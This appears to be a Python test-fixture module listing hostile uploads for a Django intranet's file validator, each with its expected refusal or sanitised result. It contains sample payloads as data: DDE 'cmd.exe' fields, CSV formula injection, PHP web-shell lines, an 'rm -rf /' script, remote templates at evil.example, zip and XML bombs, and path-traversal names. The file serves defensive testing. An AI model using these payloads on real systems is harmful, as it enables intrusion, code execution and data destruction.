"""Bad files, each with what becomes of it: refused in which words, or kept in a form that harms nobody.

``docs/uploads.md`` lists them all; a test holds the two together.
"""

import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from django.core.exceptions import ValidationError

from intranet.media import pictures, refusals
from tests.media import hostile, samples
from tests.media.hostile import Entry, zipped

Refusal = Callable[[], ValidationError]


@dataclass(frozen=True)
class Bad:
    """A file that is refused, by the doors for documents and by those for pictures."""

    name: str
    build: Callable[[], bytes]
    document: Refusal
    picture: Refusal = refusals.unknown_picture


@dataclass(frozen=True)
class Harmless:
    """A file that is kept, without ``gone``, under the name ``kept_as``."""

    name: str
    build: Callable[[], bytes]
    kept_as: str
    gone: tuple[bytes, ...] = ()


def _named(refusal: Callable[[str], ValidationError]) -> Refusal:
    return lambda: refusal("")


PROGRAM, NESTED, NAME, REMOTE, ATTACHED = (
    _named(each)
    for each in (
        refusals.program,
        refusals.nested_archive,
        refusals.unsafe_name,
        refusals.remote_content,
        refusals.attached_program,
    )
)
BIG, HURT, UNKNOWN, TWO = refusals.oversized, refusals.damaged, refusals.unknown_type, refusals.two_types
OBJECT, MACROS, COMMAND, ENTITIES = refusals.embedded_object, refusals.macros, refusals.command, refusals.entities
ACTIVE, SVG, PIXELS = refusals.active_pdf, refusals.svg, pictures.too_many_pixels
FRAMES = pictures.too_many_frames
DEFLATED = zipfile.ZIP_DEFLATED
DDE = r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"


def _zip(*entries: Entry, **options: object) -> Callable[[], bytes]:
    return lambda: zipped(entries, **options)  # type: ignore[arg-type]


ARCHIVES = {
    "flat bomb": Bad("lot.zip", hostile.flat_bomb, BIG),
    "one file that swells": Bad("lot.zip", lambda: zipped([hostile.zeros(b"a.txt", 20_000_000)]), BIG),
    "document that swells": Bad(
        "note.docx",
        lambda: zipped(
            [
                Entry(b"[Content_Types].xml", b"<Types/>"),
                Entry(b"word/document.xml", b"<x/>"),
                hostile.zeros(b"word/media/a.emf", 20_000_000),
            ]
        ),
        BIG,
    ),
    "archives in one another": Bad("lot.zip", lambda: hostile.deep(8), NESTED),
    "overlapping files": Bad("lot.zip", _zip(Entry(b"a.txt", b"a" * 99), Entry(b"b.txt", b"a" * 99, at=0)), HURT),
    "smaller in the index than in truth": Bad(
        "lot.zip", _zip(Entry(b"a.txt", bytes(9), DEFLATED, raw=hostile.deflated(bytes(5_000_000)), size=9)), HURT
    ),
    "larger in the index than in truth": Bad("lot.zip", _zip(Entry(b"a.txt", b"a", size=500)), HURT),
    "gigantic in the index": Bad("lot.zip", _zip(Entry(b"a.txt", b"a", DEFLATED, size=0xFFFFFFFE)), BIG),
    "index of 64 GB by ZIP64": Bad("lot.zip", hostile.zip64_liar, BIG),
    "12,000 files": Bad("lot.zip", lambda: zipped([Entry(b"%d.txt" % n) for n in range(12_000)]), BIG),
    "index of 6 MB": Bad("lot.zip", lambda: zipped([Entry(b"%d" % n + b"a" * 60_000) for n in range(100)]), BIG),
    "another name in the header": Bad("lot.zip", _zip(Entry(b"a.txt", header_name=b"a.exe")), HURT),
    "wrong checksum": Bad("lot.zip", _zip(Entry(b"a.txt", crc=1)), HURT),
    "twice the same name": Bad("lot.zip", _zip(Entry(b"a.txt"), Entry(b"a.txt", b"b")), HURT),
    "name that climbs": Bad("lot.zip", _zip(Entry(b"../../a.txt")), NAME),
    "name that climbs, in a document": Bad("note.docx", lambda: hostile.docx(**{"word__.._DOT_/..__a": b"x"}), NAME),
    "name from the root": Bad("lot.zip", _zip(Entry(b"/etc/a.txt")), NAME),
    "name with backslashes": Bad("lot.zip", _zip(Entry(b"..\\..\\a.txt")), NAME),
    "name with a drive": Bad("lot.zip", _zip(Entry(b"C:a.txt")), NAME),
    "name read from right to left": Bad("lot.zip", _zip(Entry("a\u202etxt.exe".encode(), flags=0x800)), NAME),
    "name with a NUL": Bad("lot.zip", _zip(Entry(b"a.txt\x00.exe")), NAME),
    "symbolic link": Bad("lot.zip", _zip(Entry(b"a.txt", b"/etc/passwd", mode=0o120777)), NAME),
    "encrypted archive": Bad("lot.zip", _zip(Entry(b"a.txt", flags=1)), refusals.locked),
    "unusual compression": Bad(
        "lot.zip", lambda: samples.archive({"a.txt": b"a"}, compression=zipfile.ZIP_LZMA), refusals.unusual_compression
    ),
    "program in an archive": Bad("lot.zip", _zip(Entry(b"a/outil.exe")), PROGRAM),
    "program under another name": Bad("lot.zip", _zip(Entry(b"a/notice.txt", samples.EXE)), PROGRAM),
    "page in an archive": Bad("lot.zip", _zip(Entry(b"facture.html", samples.HTML)), PROGRAM),
    "shortcut in an archive": Bad("lot.zip", _zip(Entry(b"facture.pdf.lnk")), PROGRAM),
    "document with macros in an archive": Bad(
        "lot.zip", lambda: zipped([Entry(b"n.docx", hostile.docx(word__vbaProject_DOT_bin=b"x"))]), MACROS
    ),
    "other archive in an archive": Bad("lot.zip", _zip(Entry(b"a.dat", b"7z\xbc\xaf\x27\x1c" + bytes(50))), NESTED),
    "archive behind a page": Bad("lot.zip", lambda: samples.HTML + zipped([Entry(b"a.txt")]), UNKNOWN),
    "archive before a page": Bad("lot.zip", lambda: zipped([Entry(b"a.txt")]) + samples.HTML, UNKNOWN),
    "archive cut short": Bad("lot.zip", lambda: zipped([Entry(b"a.txt")])[:-30], HURT),
    "archive of nothing": Bad("lot.zip", lambda: b"PK\x05\x06" + bytes(18), UNKNOWN),
    "RAR archive": Bad("lot.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(99), UNKNOWN),
}
OFFICE = {
    "macros in a text": Bad("note.docm", lambda: hostile.docx(word__vbaProject_DOT_bin=b"x"), MACROS),
    "macros in a text called docx": Bad("note.docx", lambda: hostile.docx(word__vbaProject_DOT_bin=b"x"), MACROS),
    "macros under another name": Bad(
        "note.docx",
        lambda: samples.archive(
            {
                "[Content_Types].xml": hostile.content_types("application/vnd.ms-word.document.macroEnabled.main+xml"),
                "word/document.xml": b"<x/>",
                "word/theme.bin": b"x",
            }
        ),
        MACROS,
    ),
    "macros in a spreadsheet": Bad("liste.xlsx", lambda: hostile.xlsx(xl__vbaProject_DOT_bin=b"x"), MACROS),
    "Excel 4 macros": Bad("liste.xlsx", lambda: hostile.xlsx(xl__macrosheets__sheet1_DOT_xml=b"<x/>"), MACROS),
    "macros in slides": Bad("vues.pptx", lambda: hostile.pptx(ppt__vbaProject_DOT_bin=b"x"), MACROS),
    "macros in an OpenDocument text": Bad("note.odt", lambda: hostile.odt(Basic__Standard__a_DOT_xml=b"<x/>"), MACROS),
    "script on an event of an OpenDocument": Bad(
        "note.odt",
        lambda: hostile.odt(
            '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$b"/>'
        ),
        MACROS,
    ),
    "OpenDocument under other names": Bad(
        "note.odt", lambda: hostile.odt('<a xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'), HURT
    ),
    "template from another site": Bad(
        "note.docx", lambda: hostile.linked("attachedTemplate", "https://evil.example/a.dotm"), REMOTE
    ),
    "template from a Windows share": Bad(
        "note.docx", lambda: hostile.linked("attachedTemplate", "file:///\\\\10.0.0.9\\a\\b.dotx"), REMOTE
    ),
    "picture from another site": Bad(
        "note.docx", lambda: hostile.linked("image", "http://evil.example/pixel.png"), REMOTE
    ),
    "frame from another site": Bad("note.docx", lambda: hostile.linked("frame", "http://evil.example/"), REMOTE),
    "workbook linked to another site": Bad(
        "liste.xlsx",
        lambda: hostile.xlsx(
            xl__externalLinks___rels__e_DOT_rels=hostile.relationships("externalLinkPath", "https://evil.example/a")
        ),
        REMOTE,
    ),
    "picture from another site, OpenDocument": Bad(
        "note.odt", lambda: hostile.odt('<text:p xlink:href="http://evil.example/pixel.png"/>'), REMOTE
    ),
    "object from another site": Bad(
        "note.docx", lambda: hostile.linked("oleObject", "mhtml:http://evil.example/a.html!x"), OBJECT
    ),
    "OLE object": Bad("note.docx", lambda: hostile.docx(word__embeddings__o_DOT_bin=hostile.OLE), OBJECT),
    "OLE object under another name": Bad(
        "liste.xlsx", lambda: hostile.xlsx(xl__media__image1_DOT_png=hostile.OLE), OBJECT
    ),
    "OLE object in an OpenDocument": Bad("note.odt", lambda: hostile.odt(Object1=hostile.OLE), OBJECT),
    "program in a document": Bad("note.docx", lambda: hostile.docx(word__media__a_DOT_png=samples.EXE), PROGRAM),
    "archive in a document": Bad(
        "note.docx", lambda: hostile.docx(word__embeddings__a_DOT_bin=zipped([Entry(b"a.txt")])), OBJECT
    ),
    "workbook with macros in a document": Bad(
        "note.docx",
        lambda: hostile.docx(word__embeddings__a_DOT_xlsx=hostile.xlsx(xl__vbaProject_DOT_bin=b"x")),
        MACROS,
    ),
    "ActiveX control": Bad("note.docx", lambda: hostile.docx(word__activeX__a_DOT_xml=b"<x/>"), OBJECT),
    "DDE field": Bad("note.docx", lambda: hostile.docx(hostile.field(DDE)), COMMAND),
    "DDE field in pieces": Bad("note.docx", lambda: hostile.docx(hostile.field("D", "DE", "AUTO c:\\a")), COMMAND),
    "DDE field in letters by number": Bad("note.docx", lambda: hostile.docx(hostile.field("&#68;&#x44;E c")), COMMAND),
    "DDE field in one": Bad("note.docx", lambda: hostile.docx(f'<w:fldSimple w:instr="{DDE}"/>'), COMMAND),
    "DDE field in a footer": Bad(
        "note.docx",
        lambda: hostile.docx(word__footer1_DOT_xml=(hostile.WORD % hostile.field(DDE)).encode()),
        COMMAND,
    ),
    "DDE link of a spreadsheet": Bad(
        "liste.xlsx",
        lambda: hostile.xlsx(
            xl__externalLinks__e_DOT_xml=b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        ),
        COMMAND,
    ),
    "DDE formula": Bad("liste.xlsx", lambda: hostile.xlsx("<row><c><f>cmd|'/C calc'!A0</f></c></row>"), COMMAND),
    "DDE formula, OpenDocument": Bad(
        "liste.ods",
        lambda: hostile.odt('<a formula="of:=DDE(&quot;soffice&quot;)"/>', extension="spreadsheet"),
        COMMAND,
    ),
    "slide that starts a program": Bad(
        "vues.pptx", lambda: hostile.pptx('<a:hlinkClick action="ppaction://program" xmlns:a="a"/>'), COMMAND
    ),
    "link that starts a program": Bad(
        "note.docx", lambda: hostile.linked("hyperlink", "ms-msdt:/id PCWDiagnostic"), COMMAND
    ),
    "link that is a script": Bad("note.docx", lambda: hostile.linked("hyperlink", "javascript:alert(1)"), COMMAND),
    "external entity": Bad("note.docx", lambda: hostile.office("word/document.xml", hostile.XXE), ENTITIES),
    "billion laughs": Bad("note.docx", lambda: hostile.office("word/document.xml", hostile.LAUGHS), ENTITIES),
    "billion laughs in the list of parts": Bad(
        "note.docx",
        lambda: samples.archive({"[Content_Types].xml": hostile.LAUGHS.encode(), "word/document.xml": b"<x/>"}),
        ENTITIES,
    ),
    "external entity, OpenDocument": Bad(
        "note.odt", lambda: hostile.odt(styles_DOT_xml=hostile.XXE.encode()), ENTITIES
    ),
    "external entity in UTF-16": Bad(
        "note.docx", lambda: hostile.office("word/document.xml", hostile.XXE.encode("utf-16")), HURT
    ),
    "external entity in UTF-7": Bad(
        "note.docx",
        lambda: hostile.office("word/document.xml", b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE'),
        HURT,
    ),
    "protected by a password": Bad("note.docx", lambda: hostile.OLE, refusals.old_office),
    "protected OpenDocument": Bad(
        "note.odt",
        lambda: hostile.odt(**{"META-INF__manifest_DOT_xml": b"<m><manifest:encryption-data xmlns:manifest='m'/></m>"}),
        refusals.locked,
    ),
    "binary workbook": Bad("liste.xlsb", lambda: hostile.office("xl/workbook.bin", b"x"), UNKNOWN),
    "plain archive called docx": Bad("note.docx", lambda: zipped([Entry(b"a.txt")]), UNKNOWN),
}
PDFS = {
    "PDF with JavaScript": Bad(
        "note.pdf", lambda: hostile.pdf(b"5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), ACTIVE
    ),
    "PDF with JavaScript at opening": Bad(
        "note.pdf", lambda: hostile.pdf(b"", trailer=b"/OpenAction<</S /JavaScript /JS 9 0 R>>"), ACTIVE
    ),
    "PDF with letters by number": Bad("note.pdf", lambda: hostile.pdf(b"5 0 obj<</S/J#61v#61Script>>endobj"), ACTIVE),
    "PDF with JavaScript in compressed objects": Bad(
        "note.pdf", lambda: hostile.object_stream(b"<</S/JavaScript/JS(app.alert(1))>>"), ACTIVE
    ),
    "PDF with compressed objects of no type": Bad(
        "note.pdf", lambda: hostile.object_stream(b"<</S/JavaScript>>", dictionary=b"/N 1/First 4"), ACTIVE
    ),
    "PDF with objects packed twice": Bad(
        "note.pdf",
        lambda: hostile.object_stream(b"", packed=b"789c4b04"),
        refusals.unreadable_pdf,
    ),
    "encrypted PDF with hidden objects": Bad(
        "note.pdf",
        lambda: hostile.object_stream(b"<</a/b>>").replace(b"/Root", b"/Encrypt 7 0 R/Root"),
        refusals.unreadable_pdf,
    ),
    "PDF that starts a program": Bad("note.pdf", lambda: hostile.pdf(b"5 0 obj<</S/Launch/F(cmd.exe)>>endobj"), ACTIVE),
    "PDF with animated content": Bad("note.pdf", lambda: hostile.pdf(b"5 0 obj<</Subtype/RichMedia>>endobj"), ACTIVE),
    "PDF with an XFA form": Bad("note.pdf", lambda: hostile.pdf(b"5 0 obj<</XFA 6 0 R>>endobj"), ACTIVE),
    "PDF with a program attached": Bad(
        "note.pdf", lambda: hostile.pdf(b"5 0 obj<</Type/Filespec/F(facture.exe)/EF<</F 6 0 R>>>>endobj"), ATTACHED
    ),
    "PDF with a program attached, in hexadecimal": Bad(
        "note.pdf", lambda: hostile.pdf(b"5 0 obj<</UF<FEFF0061002E006A0073>>>endobj"), ATTACHED
    ),
    "PDF linked to a Windows share": Bad(
        "note.pdf", lambda: hostile.pdf(rb"5 0 obj<</S/GoToR/F(\\\\10.0.0.9\\a)>>endobj"), REMOTE
    ),
    "PDF behind a page": Bad("note.pdf", lambda: samples.HTML + samples.pdf(), UNKNOWN),
    "PDF behind a picture": Bad("note.pdf", lambda: b"GIF89a" + samples.pdf(), HURT, HURT),
    "PDF and archive": Bad("note.pdf", lambda: samples.pdf() + zipped([Entry(b"a.txt")]), TWO),
    "PDF and archive with a long comment": Bad(
        "note.pdf", lambda: samples.pdf() + zipped([Entry(b"a.txt")], comment=b"x" * 3000 + b"%%EOF"), TWO
    ),
    "PDF cut short": Bad("note.pdf", lambda: samples.pdf()[:60], HURT),
}
TEXTS = {
    "page without a name": Bad("page", lambda: samples.HTML, UNKNOWN),
    "page called xhtml": Bad("page.xhtml", lambda: samples.HTML, UNKNOWN),
    "page called mht": Bad("page.mht", lambda: samples.HTML, UNKNOWN),
    "page called md": Bad("note.md", lambda: b"<!-- note -->\n" + samples.HTML, UNKNOWN),
    "page called eml": Bad("note.eml", lambda: b"Content-Type: text/html\r\n\r\n" + samples.HTML, UNKNOWN),
    "mail called html": Bad("note.html", lambda: b"MIME-Version: 1.0\r\n\r\n" + samples.HTML, UNKNOWN),
    "program called html": Bad("page.html", lambda: samples.EXE, UNKNOWN),
    "shell script called html": Bad("page.html", lambda: b"#!/bin/sh\n#<html>\n", UNKNOWN),
    "text called html": Bad("page.html", lambda: b"Bonjour <p>", UNKNOWN),
    "PHP in a page": Bad("page.html", lambda: samples.HTML + b"<?php system($_GET[0]);", UNKNOWN),
    "ASP in a page": Bad("page.html", lambda: b"<html><% eval request(0) %>", UNKNOWN),
    "page with a NUL far away": Bad("page.html", lambda: samples.HTML + b"<p>a\n" * 300_000 + b"\x00", UNKNOWN),
    "page with escapes of Japanese": Bad("page.html", lambda: samples.HTML + b"\x1b$B", UNKNOWN),
    "page in UTF-7 called html": Bad("page.html", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", UNKNOWN),
    "page in UTF-16 without a mark called html": Bad(
        "page.html", lambda: samples.HTML.decode().encode("utf-16-le"), UNKNOWN
    ),
    "page and archive": Bad("page.html", lambda: samples.HTML + zipped([Entry(b"a.txt")]), TWO),
    "page and archive in UTF-16": Bad("page.html", hostile.page_and_archive_in_utf16, TWO),
    "page and PDF": Bad("page.html", lambda: b"<!-- %PDF-1.7 -->" + samples.HTML, TWO),
    "drawing called html": Bad("dessin.html", lambda: samples.SVG, SVG, SVG),
    "page called txt": Bad("page.txt", lambda: samples.HTML, UNKNOWN),
    "page called csv": Bad("page.csv", lambda: samples.HTML, UNKNOWN),
    "page called pdf": Bad("page.pdf", lambda: samples.HTML, UNKNOWN),
    "page after a mark of order": Bad("page.txt", lambda: b"\xef\xbb\xbf" + samples.HTML, UNKNOWN),
    "page in UTF-16": Bad("page.txt", lambda: samples.HTML.decode().encode("utf-16"), UNKNOWN),
    "page in UTF-16 without a mark": Bad("page.txt", lambda: samples.HTML.decode().encode("utf-16-le"), UNKNOWN),
    "page in UTF-32": Bad("page.txt", lambda: samples.HTML.decode().encode("utf-32"), UNKNOWN),
    "page in UTF-7": Bad("page.txt", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", UNKNOWN),
    "PHP called txt": Bad("page.txt", lambda: b"<?php system($_GET[0]);", UNKNOWN),
    "shell script": Bad("note.txt", lambda: b"#!/bin/sh\nrm -rf /\n", UNKNOWN),
    "JavaScript": Bad("note.js", lambda: b"alert(1)", UNKNOWN),
    "program": Bad("outil.exe", lambda: samples.EXE, UNKNOWN),
    "program called pdf": Bad("outil.pdf", lambda: samples.EXE, UNKNOWN),
    "program called txt": Bad("outil.txt", lambda: samples.EXE, UNKNOWN),
    "program with two extensions": Bad("facture.pdf.exe", lambda: samples.EXE, UNKNOWN),
    "text with a NUL": Bad("note.txt", lambda: b"bonjour\x00", UNKNOWN),
    "text with a NUL far away": Bad("note.txt", lambda: b"bonjour\n" * 200_000 + b"\x00", UNKNOWN),
    "spreadsheet command in a csv": Bad("liste.csv", lambda: b"nom;age\n=cmd|'/C calc'!A0;3\n", COMMAND),
    "spreadsheet command among signs": Bad("liste.csv", lambda: b"a,\"+-@ MSEXCEL|'\\..\\cmd'!''\"\n", COMMAND),
    "object in a rich text": Bad("note.rtf", lambda: rb"{\rtf1{\object\objdata 0105}}", OBJECT),
    "DDE in a rich text": Bad("note.rtf", lambda: rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}", COMMAND),
    "template of a rich text": Bad("note.rtf", lambda: rb"{\rtf1{\*\template http://evil.example/a}}", REMOTE),
    "empty file": Bad("note.txt", lambda: b"", refusals.empty, refusals.empty),
}
PICTURES = {
    "SVG with a script": Bad("dessin.svg", lambda: samples.SVG, SVG, SVG),
    "SVG called png": Bad("dessin.png", lambda: samples.SVG, SVG, SVG),
    "SVG in UTF-16": Bad("dessin.svg", lambda: samples.SVG.decode().encode("utf-16"), SVG, SVG),
    "page called jpg": Bad("photo.jpg", lambda: samples.HTML, UNKNOWN),
    "page behind the mark of PNG": Bad("photo.png", lambda: b"\x89PNG\r\n\x1a\n" + samples.HTML, HURT, HURT),
    "PNG of 10,000 pixels a side": Bad("photo.png", lambda: hostile.png_of(10_000, 10_000), PIXELS, PIXELS),
    "PNG of 60,000 pixels a side": Bad("photo.png", lambda: hostile.png_of(60_000, 60_000), PIXELS, PIXELS),
    "JPEG of 65,000 pixels a side": Bad("photo.jpg", lambda: hostile.jpeg_of(65_000, 65_000), PIXELS, PIXELS),
    "JPEG of a thousand passes": Bad("photo.jpg", lambda: hostile.jpeg_of_scans(1_000), HURT, HURT),
    "WebP of 16,000 pixels a side": Bad("photo.webp", lambda: hostile.webp_of(16_000, 16_000), PIXELS, PIXELS),
    "GIF of 20,000 frames": Bad("photo.gif", lambda: hostile.gif_of_frames(20_000), FRAMES, FRAMES),
    "GIF of frames that add up": Bad("photo.gif", lambda: hostile.gif_of_frames(700, 300), PIXELS, PIXELS),
    "APNG of a million frames": Bad("photo.png", lambda: hostile.apng_of_frames(1_000_000, 20), FRAMES, FRAMES),
    "APNG of frames that add up": Bad("photo.png", lambda: hostile.apng_of_frames(900, 500), PIXELS, PIXELS),
    "colour profile that swells": Bad("photo.png", lambda: hostile.profile_bomb(), HURT, HURT),
    "PNG cut short": Bad("photo.png", lambda: samples.png()[:60], HURT, HURT),
    "JPEG cut short": Bad("photo.jpg", lambda: samples.saved(samples.picture(), "JPEG")[:-200], HURT, HURT),
    "GIF cut short": Bad("photo.gif", lambda: samples.saved(samples.picture(), "GIF")[:-20], HURT, HURT),
    "WebP cut short": Bad("photo.webp", lambda: samples.saved(samples.picture(), "WEBP")[:-20], HURT, HURT),
    "TIFF": Bad("photo.tif", lambda: samples.saved(samples.picture(), "TIFF"), UNKNOWN),
    "BMP": Bad("photo.bmp", lambda: samples.saved(samples.picture(), "BMP"), UNKNOWN),
    "ICO": Bad("photo.ico", lambda: samples.saved(samples.picture(), "ICO"), UNKNOWN),
    "PostScript": Bad("photo.eps", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", UNKNOWN),
}
FAMILIES = {"archives": ARCHIVES, "office": OFFICE, "pdf": PDFS, "texts": TEXTS, "pictures": PICTURES}
REFUSED: dict[str, Bad] = {name: case for family in FAMILIES.values() for name, case in family.items()}

_JPEG = lambda **options: samples.saved(samples.picture(200, 150), "JPEG", **options)  # noqa: E731
_PNG = lambda: samples.saved(samples.picture(200, 150), "PNG")  # noqa: E731
PHP = b"<?php system($_GET[0]); ?>"
KEPT: dict[str, Harmless] = {
    "csv with formulas": Harmless("liste.csv", lambda: b"nom;total\nCaen;=SOMME(B1:B2)\n", "liste.csv"),
    "PDF with a table attached": Harmless(
        "facture.pdf", lambda: hostile.pdf(b"5 0 obj<</F(a.xml)/EF<</F 6 0 R>>>>endobj"), "facture.pdf"
    ),
    "PDF with a page in a comment": Harmless("note.pdf", lambda: hostile.pdf(b"%" + samples.HTML), "note.pdf"),
    "document linked to sites and to files beside it": Harmless(
        "note.docx",
        lambda: hostile.docx(
            hostile.field('HYPERLINK "https://interpoles.example/DDE"') + hostile.field("PAGE"),
            word___rels__a_DOT_rels=hostile.relationships("hyperlink", "https://interpoles.example/"),
            word___rels__b_DOT_rels=hostile.relationships("attachedTemplate", "file:///C:\\Users\\moi\\Normal.dotm"),
            word__embeddings__chart_DOT_xlsx=hostile.xlsx(),
            word__media__plan_DOT_svg=samples.SVG,
        ),
        "note.docx",
    ),
    "name from right to left": Harmless("facture\u202efdp.exe", samples.pdf, "facturefdp.pdf"),
    "name with control characters": Harmless("a\x07b\x1b[31m.pdf", samples.pdf, "ab-31m.pdf"),
    "name of 300 letters": Harmless("x" * 300 + ".pdf", samples.pdf, "x" * 80 + ".pdf"),
    "name reserved by Windows": Harmless("CON.pdf", samples.pdf, "fichier-CON.pdf"),
    "name that climbs": Harmless("../../../etc/passwd", samples.pdf, "passwd.pdf"),
    "name of a server's own": Harmless(".htaccess", samples.pdf, "htaccess.pdf"),
    "two extensions": Harmless("note.php.pdf", samples.pdf, "note-php.pdf"),
    "page with a script": Harmless("page.html", lambda: samples.HTML, "page.html"),
    "page in UTF-16 with a mark": Harmless("page.HTM", lambda: samples.HTML.decode().encode("utf-16"), "page.html"),
    "page of another site": Harmless(
        "page.htm",
        lambda: b"<!-- saved -->\n<meta http-equiv=refresh content='0;url=//evil.example/'><img src=//evil.example/a>",
        "page.html",
    ),
    "Markdown with a page as an example": Harmless(
        "lisez-moi.markdown", lambda: b"# Note\n\n```html\n" + samples.HTML + b"\n```\n", "lisez-moi.md"
    ),
    "extension of a page": Harmless("note.html", samples.pdf, "note.pdf"),
    "JPEG and archive": Harmless("p.jpg", lambda: _JPEG() + zipped([Entry(b"a.txt")]), "p.jpg", (b"PK\x05\x06",)),
    "JPEG and page": Harmless("p.jpg", lambda: _JPEG(comment=samples.HTML) + samples.HTML, "p.jpg", (b"<script",)),
    "PNG and PHP": Harmless("p.php", lambda: hostile.png_with_text(_PNG(), PHP) + PHP, "p.png", (b"<?php",)),
    "PNG with a comment that swells": Harmless("p.png", lambda: hostile.comment_bomb(_PNG()), "p.png", (b"zTXt",)),
    "GIF and script": Harmless("p.gif", hostile.gif_and_script, "p.gif", (b"alert",)),
    "GIF with a script as its comment": Harmless(
        "p.gif",
        lambda: samples.saved(samples.picture(200, 150), "GIF", comment=b"*/=1;alert(1)"),
        "p.gif",
        (b"alert",),
    ),
    "colour profile that is a page": Harmless(
        "p.jpg", lambda: _JPEG(icc_profile=samples.HTML * 9), "p.jpg", (b"<script", b"ICC_PROFILE")
    ),
    "place and person": Harmless(
        "p.jpg",
        lambda: _JPEG(exif=samples.located_exif(6), xmp=samples.XMP),
        "p.jpg",
        (b"Exif", b"GPS", b"Camille", b"xmp"),
    ),
    "four colours of print": Harmless(
        "p.jpg", lambda: samples.saved(samples.picture(200, 150).convert("CMYK"), "JPEG"), "p.jpg"
    ),
    "16 bits a colour": Harmless("p.png", hostile.deep_grey, "p.png"),
}
